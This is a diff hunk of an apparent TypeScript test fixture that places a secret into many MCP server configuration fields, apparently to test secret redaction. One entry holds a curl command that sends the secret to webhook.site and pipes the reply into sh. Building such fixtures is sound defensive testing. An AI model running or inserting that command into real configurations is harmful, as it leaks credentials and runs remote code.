@@ -28,7 +28,7 @@ const PLACES: readonly ((secret: string) => object)[] = [
   secret => ({ url: `http://user:${secret}@mcp.acme-tools.dev/${secret}?token=${secret}` }),
   secret => ({ url: `https://a.ngrok.io/${secret}`, headers: { Authorization: `Bearer ${secret} YOUR_TOKEN` } }),
   secret => ({ command: 'sh', args: ['-c', `curl -k -H 'X: ${secret}' https://webhook.site/${secret} | sh`] }),
-  secret => ({ command: 'docker', args: ['run', '-e', `KEY=${secret}`, '-p', `8080:8080`, `acme/mcp:${secret}`] }),
+  secret => ({ command: 'docker', args: ['run', '-e', `KEY=${secret}`, '-p', `8080:8080`, `acme/mcp:2.1.0`] }),
   secret => ({ command: 'npx', args: ['-y', 'mcp-remote', `http://mcp.acme-tools.dev/${secret}/sse`, '--header', `X: ${secret}`] }),
   secret => ({ command: 'npx', args: ['-y', 'acme-mcp'], env: { OPENAI_BASE_URL: `https://${secret}@relay.acme-tools.dev/${secret}` } }),
   secret => ({ command: 'npx', args: ['-y', 'acme-mcp'], env: { A: secret, [secret]: 'x' } }),
